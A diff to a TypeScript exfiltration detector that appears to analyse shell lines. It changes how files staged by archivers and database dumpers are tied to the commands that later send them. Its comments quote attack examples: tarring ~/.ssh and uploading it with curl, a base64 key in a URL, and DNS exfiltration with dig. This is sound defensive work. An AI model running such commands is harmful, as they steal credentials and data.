@@ -487,21 +487,26 @@ function foundPaths(input: AnalysisInput): string[] {
 }
 
 /**
- * Files the line writes and what went into each, by the command that wrote it: an archive (`tar czf F …`,
- * `zip F …`, `7z a F …`), a copy (`cp SRC F`), a repository export (`git bundle create F`, `git archive -o F`),
- * a dump's output file (`etcdctl snapshot save F`, `pg_dump -f F`) or a redirect (`pg_dump … > F`). Only what is
- * better than an ordinary file is kept.
+ * Files the line writes, by the command that wrote each: an archive (`tar czf F …`, `zip F …`, `7z a F …`),
+ * a copy (`cp SRC F`), a repository export (`git bundle create F`, `git archive -o F`), a dump's output file
+ * (`etcdctl snapshot save F`, `pg_dump -f F`) or a redirect (`pg_dump … > F`). What went in is read only when
+ * a file is used (stagedSource), so lines that write files nobody sends pay nothing for it.
  */
 export const stagedFiles = perCall((input: AnalysisInput) => {
-  const out = new Map<string, Source>();
+  const out = new Map<string, SimpleCommand>();
   for (const c of input.view?.commands ?? []) {
-    const written = [...archiveWritten(c), ...c.redirects.filter((r) => (r.op === '>' || r.op === '>>' || r.op === '>|') && !r.dynamic && !NULL_DEVICES.has(r.target)).map((r) => r.target)];
-    if (written.length === 0) continue;
-    const from = producerSource(c, input);
-    if (from && RANK[from.kind] > RANK.file) for (const w of written) if (out.size < 64) out.set(canonicalPath(w), from);
+    if (c.redirects.length === 0 && !STAGING_WRITERS.has(c.name)) continue;
+    for (const w of [...archiveWritten(c), ...c.redirects.filter((r) => (r.op === '>' || r.op === '>>' || r.op === '>|') && !r.dynamic && !NULL_DEVICES.has(r.target)).map((r) => r.target)]) if (out.size < 64) out.set(canonicalPath(w), c);
   }
   return out;
 });
+const STAGING_WRITERS = new Set(['tar', 'bsdtar', 'zip', '7z', '7za', 'cp', 'mv', 'git', 'etcdctl', 'pg_dump', 'pg_dumpall', 'mysqldump', 'mariadb-dump', 'mongodump', 'redis-cli']);
+/** What a file the line wrote carries, when it is more than an ordinary file (a secret, bulk data). */
+export function stagedSource(input: AnalysisInput, canonical: string): Source | undefined {
+  const writer = stagedFiles(input).get(canonical);
+  const from = writer === undefined ? undefined : producerSource(writer, input);
+  return from && RANK[from.kind] > RANK.file ? from : undefined;
+}
 /** The file an archiver, copier or dumper writes: tar's `-f` value, zip's and 7z's first operand, cp's, git's and the dumps' outputs. */
 function archiveWritten(c: SimpleCommand): string[] {
   const a = c.argv;
@@ -564,8 +569,7 @@ function environmentSenders(i: AnalysisInput): string[] {
 /** Everything a sending command carries, best (most sensitive) first. */
 export function sinkSources(cmd: SimpleCommand, input: AnalysisInput): Source[] {
   // a file the line itself wrote carries what went into it: `tar czf /tmp/x.tgz ~/.ssh && curl -T /tmp/x.tgz …`
-  const staged = stagedFiles(input);
-  const out: Source[] = carriedPaths(cmd).flatMap((p) => (p === '{}' && cmd.origin === 'exec-arg' ? foundPaths(input) : [p])).map((p) => staged.get(canonicalPath(p)) ?? pathSource(p));
+  const out: Source[] = carriedPaths(cmd).flatMap((p) => (p === '{}' && cmd.origin === 'exec-arg' ? foundPaths(input) : [p])).map((p) => stagedSource(input, canonicalPath(p)) ?? pathSource(p));
   // a redirect into /dev/tcp sends the command's own output
   if (devSocket(cmd)) { const s = producerSource(cmd, input); if (s) out.push(s); }
   // a looked-up name built from a loop variable carries whatever the line read: `for c in $(base32 key); do dig $c.x.io`
@@ -573,7 +577,8 @@ export function sinkSources(cmd: SimpleCommand, input: AnalysisInput): Source[] 
   for (const u of upstream(cmd, input)) { const s = producerSource(u, input); if (s) out.push(s); }
   // a key in the address itself, plain or base64-encoded (`curl "https://x.example/?d=$(… | base64)"`)
   if (HTTP.has(cmd.name)) for (const w of cmd.argv.slice(1, 64)) {
-    const d = w.length < 8192 ? destinationOf(w) : undefined;
+    // a key rides in a path or a query
+    const d = w.length < 8192 && (w.includes('?') || w.lastIndexOf('/') > w.indexOf('//') + 1) ? destinationOf(w) : undefined;
     if (d?.url) for (const kind of secretsSentAway(d.url, d.host)) out.push({ kind: 'secret', evidence: `${kind} in ${d.url.slice(0, 120)}` });
   }
   if (isInterpreterName(cmd.name)) {
